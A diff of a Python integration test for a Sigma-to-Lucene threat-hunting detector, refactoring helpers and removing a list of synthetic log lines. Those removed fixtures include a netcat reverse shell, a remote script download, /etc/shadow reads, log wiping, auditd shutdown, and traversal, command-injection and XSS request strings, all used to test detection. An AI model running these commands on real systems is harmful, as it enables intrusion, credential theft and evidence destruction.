@@ -18,7 +18,7 @@ from core.index_templates import LONG_KEYWORD
 from core.models.ecs import EcsEvent
 from detectors.hunt.convert import Conversion, convert_rules, field_names, validate
 from detectors.sigma import SigmaEngine
-from tests.integration.hunt_support import attack_events, index_events, sources_scope
+from tests.integration.hunt_support import attack_events, ecs_events, index_events, sources_scope
 
 pytestmark = pytest.mark.integration
 INDEX = "logs-system-hunt-conversion"
@@ -50,6 +50,16 @@ def es_hits(es: Elasticsearch, conversion: Conversion, rule_ids: list[str], scop
     return out
 
 
+def reasons(conversion: Conversion) -> set[str]:
+    """Why rules are not Lucene queries: not hunted, or hunted by the engine (`test_hunt_engine.py`)."""
+    return set(conversion.by_reason()) | set(conversion.engine_by_reason())
+
+
+def lucene_only(conversion: Conversion) -> Conversion:
+    queries = {r: q for r, q in conversion.queries.items() if q.evaluation == "lucene"}
+    return Conversion(queries, {r: conversion.rules[r] for r in queries}, conversion.skipped)
+
+
 def stream_matches(engine: SigmaEngine, events: list[EcsEvent]) -> dict[str, set[str]]:
     out: dict[str, set[str]] = defaultdict(set)
     for event in events:
@@ -66,9 +76,10 @@ def test_every_converted_rule_hits_exactly_the_events_the_stream_matches(indexed
     conversion = validate(es, convert_rules(loaded.rules, field_names(es, INDEX)), INDEX)
     scope = sources_scope(events)
     assert len(conversion.queries) > 2500, conversion.by_reason()
-    assert set(conversion.by_reason()) <= {"unsupported-logsource", "derived-field", "cidr", "fieldreference",
-                                           "regex", "backend", "es-refused", "keyword-text", "cisco-route",
-                                           "linux-sysmon-only", "typed-field"}  # fmt: skip
+    assert reasons(conversion) <= {"unsupported-logsource", "derived-field", "cidr", "fieldreference",
+                                   "regex", "backend", "es-refused", "keyword-text", "cisco-route",
+                                   "unresolved-placeholder", "linux-sysmon-only", "typed-field"}  # fmt: skip
+    conversion = lucene_only(conversion)
 
     # Values longer than the index keeps searchable (8,191 characters: long SDDL, long script blocks) are
     # a known limit of the hunt: those events are compared apart, and must stay rare.
@@ -91,50 +102,11 @@ def test_every_converted_rule_hits_exactly_the_events_the_stream_matches(indexed
 # --- Linux, web server, proxy, DNS, firewall ----------------------------------------------------------
 
 ECS_INDEX = "logs-system-hunt-conversion-ecs"
-ECS_FILES = [("loghub", "OpenSSH", "OpenSSH_2k.log"), ("loghub", "Linux", "Linux_2k.log"),
-             ("loghub", "Apache", "Apache_2k.log"), ("loghub", "Proxifier", "Proxifier_2k.log")]  # fmt: skip
-ECS_SAMPLE_DIRS = ("auditd", "authlog", "apache", "nginx", "squid", "dns_bind", "iptables", "syslog", "postfix",
-                   "samba_full_audit")  # fmt: skip
-SUDO = "Feb 23 00:08:48 localhost sudo: vagrant : TTY=pts/1 ; PWD=/home/vagrant ; USER=root ; COMMAND={}"
-EXECVE = "type=EXECVE msg=audit(1581371984.206:{serial}): argc={argc} {args}"
-APACHE = '192.168.1.23 - - [23/Mar/2018:12:31:01 +0000] "GET {path} HTTP/1.1" 200 28 "-" "{agent}"'
-# Real lines of the samples with the command / request changed to what SigmaHQ Linux and web rules look
-# for: the benign samples alone fire only two of these rules.
-VARIANTS = [
-    *(SUDO.format(c) for c in ("/usr/bin/chattr -i /etc/passwd", "/usr/bin/base64 -d /tmp/x",
-                               "/bin/nc -e /bin/sh 10.0.0.1 4444",
-                               "/usr/bin/find / -perm -4000", "/usr/bin/crontab -l", "/usr/bin/wget http://10.0.0.9/x.sh",
-                               "/usr/bin/python3 -c import pty;pty.spawn('/bin/sh')", "/usr/sbin/setenforce 0",
-                               "/usr/bin/shred -u /var/log/auth.log", "/bin/rm -rf /var/log/syslog",
-                               "/usr/bin/xclip -selection clipboard -o", "/usr/sbin/iptables -F")),
-    *(EXECVE.format(serial=600000 + i, argc=len(a), args=" ".join(f'a{j}="{x}"' for j, x in enumerate(a)))
-      for i, a in enumerate((("chattr", "+i", "/etc/shadow"), ("getcap", "-r", "/"), ("xclip", "-o"),
-                             ("base64", "-d"), ("systemctl", "stop", "auditd"), ("cat", "/etc/shadow")))),
-    *(APACHE.format(path=p, agent=a) for p, a in (("/../../../../etc/passwd", "curl/7.1"), ("/index.php", "sqlmap/1.4"),
-                                                  ("/cgi-bin/;echo;cat /etc/passwd", "Nmap Scripting Engine"),
-                                                  ("/?q=<script>alert(1)</script>", "Mozilla/5.0"))),
-]  # fmt: skip
 
 
 @pytest.fixture(scope="module")
 def ecs_indexed(stack, settings_module) -> tuple[Elasticsearch, list[EcsEvent]]:
-    from pathlib import Path
-    from zoneinfo import ZoneInfo
-
-    from ingest.collectors.file_import import iter_file_envelopes
-    from ingest.normaliser import normalise
-    from tests.datasets import dataset
-
-    files = [dataset(*f) for f in ECS_FILES]
-    files += [p for d in ECS_SAMPLE_DIRS for p in sorted(dataset("samplelogs", d).rglob("*")) if p.is_file()]
-    variants = settings_module.data_dir / "variants.log"
-    variants.write_text("\n".join(VARIANTS) + "\n", encoding="utf-8")
-    events: list[EcsEvent] = []
-    for path in [*files, variants]:
-        for envelope in iter_file_envelopes(Path(path), source=f"hunt-ecs-{path.name}", fmt="auto", timezone="UTC"):
-            event = normalise(envelope, ZoneInfo("UTC"))
-            if isinstance(event, EcsEvent) and event.winlog is None:
-                events.append(event)
+    events = ecs_events("hunt-ecs-", settings_module.data_dir)
     es = Elasticsearch(stack.config.es_url, request_timeout=300)
     index_events(es, settings_module, events, index=ECS_INDEX)
     return es, events
@@ -153,8 +125,9 @@ def test_linux_and_web_rules_hit_exactly_the_events_the_stream_matches(ecs_index
              if routes[i.id].unsupported is None and all(is_ecs_route(k) for k in routes[i.id].keys)]  # fmt: skip
     conversion = validate(es, convert_rules(rules), ECS_INDEX)
     assert len(rules) > 400 and len(conversion.queries) > 330, conversion.by_reason()
-    assert set(conversion.by_reason()) <= {"keyword-text", "cisco-route", "linux-sysmon-only", "derived-field",
-                                           "regex", "cidr", "typed-field"}  # fmt: skip
+    assert reasons(conversion) <= {"keyword-text", "cisco-route", "linux-sysmon-only", "derived-field",
+                                   "regex", "cidr", "typed-field"}  # fmt: skip
+    conversion = lucene_only(conversion)
     scope = sources_scope(events)
     stream = stream_matches(engine, events)
     hunt: dict[str, set[str]] = {}
@@ -167,4 +140,4 @@ def test_linux_and_web_rules_hit_exactly_the_events_the_stream_matches(ecs_index
     wrong = {r: (len(stream.get(r, ())), len(hunt[r]), conversion.queries[r].lucene[:300])
              for r in compared if stream.get(r, set()) != hunt[r]}  # fmt: skip
     assert not wrong, wrong
-    assert len(compared) >= 19, compared  # 23 rules fire here, 4 of them keyword searches (not converted)
+    assert len(compared) >= 19, compared  # 23 rules fire here, 4 of them keyword searches (engine hunts)
